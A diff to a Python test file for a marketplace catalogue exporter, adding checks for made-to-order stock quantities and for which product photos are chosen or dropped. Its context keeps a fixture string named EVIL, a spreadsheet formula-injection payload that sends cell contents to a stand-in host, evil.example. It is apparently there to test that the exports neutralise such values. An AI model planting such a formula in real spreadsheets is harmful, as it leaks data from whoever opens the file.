@@ -14,12 +14,13 @@ import pytest
 from openpyxl import load_workbook
 from PIL import Image
 
-from services.catalogue import ExportRow, Listing, ProductFacts, Size
+from services.catalogue import ExportRow, Listing, ProductFacts, Size, marketplace_photos
 from services.exports import (
     AMAZON_COLUMNS,
     AMAZON_KEYWORDS_MAX_BYTES,
     DEFAULT_FULFILLMENT_LATENCY,
     EBAY_COLUMNS,
+    MADE_TO_ORDER_QUANTITY,
     SELLER_COLUMNS,
     THUMB_PX,
     USD_PER_INR,
@@ -31,6 +32,7 @@ from services.exports import (
     write_photos_zip,
     write_seller_catalogue_xlsx,
 )
+from storage.records import PhotoRecord
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 BN_TITLE = "বাঁকুড়ার হাতে তৈরি পোড়ামাটির ঘোড়া"
@@ -193,7 +195,19 @@ def test_amazon_fulfillment_latency(
 ) -> None:
     (r,) = amazon(tmp_path, [make_row(tmp_path, facts={"stock": stock, "days_to_make": days})])
     assert r["fulfillment_latency"] == latency
-    assert r["quantity"] == stock
+    made_to_order = stock == 0 and bool(days)
+    assert r["quantity"] == (MADE_TO_ORDER_QUANTITY if made_to_order else stock or 0)
+
+
+def test_poor_photos_never_lead_and_blurred_ones_are_left_out(tmp_path: Path) -> None:
+    def photo(position: int, *problems: str) -> PhotoRecord:
+        path = jpeg(tmp_path / f"p{position}.jpg")
+        return PhotoRecord(position, 1, position, f"h{position}", str(path), 400, 300, problems)
+
+    photos = [photo(0, "blurry", "dark"), photo(1, "background"), photo(2), photo(3, "small")]
+    chosen = marketplace_photos(photos)
+    assert [p.name for p in chosen] == ["p2.jpg", "p1.jpg"]  # the clean one leads
+    assert marketplace_photos([photo(4, "blurry")]) == ()
 
 
 def test_amazon_images_main_first_at_most_nine(tmp_path: Path) -> None:
